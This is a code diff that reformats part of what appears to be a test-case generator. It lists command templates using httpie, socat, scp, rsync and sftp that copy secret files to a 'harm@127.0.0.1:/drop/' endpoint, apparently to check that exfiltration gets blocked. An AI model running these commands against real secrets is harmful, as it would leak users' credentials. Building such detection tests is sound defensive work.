@@ -38,7 +38,20 @@ const SENDERS = {
   'httpie-json-file': (p) => exec('http', '--ignore-stdin', 'POST', UP, `cfg:=@${p}`),
   'socat-file': (p) => exec('socat', '-u', `FILE:${p}`, 'TCP:127.0.0.1:{TCP_PORT}'),
   'socat-open': (p) => exec('socat', '-u', `OPEN:${p},rdonly`, 'TCP4:127.0.0.1:{TCP_PORT}'),
-  scp: (p) => exec('scp', '-P', '{TCP_PORT}', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=3', '-o', 'UserKnownHostsFile=/dev/null', p, 'harm@127.0.0.1:/drop/'),
+  scp: (p) =>
+    exec(
+      'scp',
+      '-P',
+      '{TCP_PORT}',
+      '-o',
+      'BatchMode=yes',
+      '-o',
+      'ConnectTimeout=3',
+      '-o',
+      'UserKnownHostsFile=/dev/null',
+      p,
+      'harm@127.0.0.1:/drop/',
+    ),
   'scp-url': (p) => exec('scp', '-o', 'BatchMode=yes', '-o', 'UserKnownHostsFile=/dev/null', p, 'scp://harm@127.0.0.1:{TCP_PORT}/drop/'),
   'rsync-daemon': (p) => exec('rsync', '--timeout=3', p, 'rsync://127.0.0.1:{TCP_PORT}/drop/'),
   'rsync-ssh': (p) => exec('rsync', '-e', 'ssh -p {TCP_PORT} -o BatchMode=yes -o UserKnownHostsFile=/dev/null', p, 'harm@127.0.0.1:/drop/'),
@@ -49,7 +62,11 @@ function sftpCases(add) {
   SECRETS.forEach((s, i) => {
     if (i % 3) return;
     const p = spell(s, 'abs');
-    add(`sftp-batch/${s.key}`, exec('sftp', '-b', 'upload.batch', '-P', '{TCP_PORT}', '-o', 'BatchMode=yes', '-o', 'UserKnownHostsFile=/dev/null', 'harm@127.0.0.1'), { files: { 'upload.batch': `put ${p} /drop/\n` } });
+    add(
+      `sftp-batch/${s.key}`,
+      exec('sftp', '-b', 'upload.batch', '-P', '{TCP_PORT}', '-o', 'BatchMode=yes', '-o', 'UserKnownHostsFile=/dev/null', 'harm@127.0.0.1'),
+      { files: { 'upload.batch': `put ${p} /drop/\n` } },
+    );
   });
 }
 
